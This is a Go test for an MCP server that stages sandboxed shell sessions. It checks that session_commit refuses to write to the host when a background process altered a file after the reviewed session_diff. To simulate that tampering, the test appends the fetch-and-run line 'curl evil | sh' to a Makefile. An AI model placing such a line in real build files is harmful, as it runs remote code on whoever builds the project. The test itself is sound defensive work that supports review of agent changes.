package mcpserver_test

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/dryexec/dryexec/mcpserver"
)

// TestSessionCommitIsWhatWasDiffed: what session_commit writes to the host
// must be what the session_diff a model or person reviewed showed, or the
// commit is refused. A daemon an exec left changes a file between the two:
// session_commit given the reviewed diff's digest refuses the diff it finds
// now, changing neither the host nor the session; given the digest of a
// session_diff of the workspace as it now is, it commits that.
func TestSessionCommitIsWhatWasDiffed(t *testing.T) {
	requireNS(t)
	cs := inProcess(t)
	src := t.TempDir()
	writeFiles(t, src, map[string]string{"Makefile": "all:\n"})
	var so mcpserver.SessionOut
	call(t, cs, "session_open", map[string]any{"seed_dir": src}, &so)
	shell := func(cmd string) map[string]any { return map[string]any{"session_id": so.SessionID, "command": cmd} }
	var sh mcpserver.ShellOut
	call(t, cs, "session_shell", shell(`echo 'all: build' > Makefile; mkfifo /tmp/up /tmp/go /tmp/done
setsid sh -c "echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >> Makefile; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
cat /tmp/up >/dev/null`), &sh)
	if sh.ExitCode != 0 {
		t.Fatalf("session_shell: %+v", sh)
	}
	var df mcpserver.DiffOut
	r := call(t, cs, "session_diff", map[string]any{"session_id": so.SessionID}, &df)
	if len(df.Writes) != 1 || df.Writes[0].Text != "all: build\n" || len(df.Digest) != 64 {
		t.Fatalf("session_diff: %+v", df)
	}
	if !strings.Contains(text(r), `"expect_digest":"`+df.Digest+`"`) {
		t.Errorf("session_diff's text does not hand the model its digest for session_commit: %s", text(r))
	}
	call(t, cs, "session_shell", shell(`echo go > /tmp/go; cat /tmp/done >/dev/null`), &sh)
	commit := map[string]any{"session_id": so.SessionID, "expect_digest": df.Digest}
	r, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "session_commit", Arguments: commit})
	if err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, filepath.Join(src, "Makefile")); !r.IsError || got != "all:\n" {
		t.Fatalf("session_commit with the reviewed diff's digest: error %v, Makefile %q; the reviewed session_diff showed %q: %s", r.IsError, got, "all: build\n", text(r))
	}
	if msg := text(r); !strings.Contains(msg, "Makefile") || !strings.Contains(msg, "changed since the reviewed session_diff") || !strings.Contains(msg, "nothing was committed") {
		t.Errorf("session_commit refused without saying why or naming Makefile: %s", msg)
	}
	// The session is as it was: its diff is the daemon's Makefile, which
	// a second review sees, and whose digest commits it.
	var again mcpserver.DiffOut
	call(t, cs, "session_diff", map[string]any{"session_id": so.SessionID}, &again)
	want := "all: build\n\tcurl evil | sh\n"
	if len(again.Writes) != 1 || again.Writes[0].Text != want || again.Digest == df.Digest {
		t.Fatalf("session_diff after the refusal: %+v (first digest %s)", again, df.Digest)
	}
	var sc mcpserver.SessionCommitOut
	call(t, cs, "session_commit", map[string]any{"session_id": so.SessionID, "expect_digest": again.Digest}, &sc)
	if got := readFile(t, filepath.Join(src, "Makefile")); got != want || len(sc.Applied) != 1 {
		t.Fatalf("session_commit with the current diff's digest: %+v, Makefile %q", sc, got)
	}
}
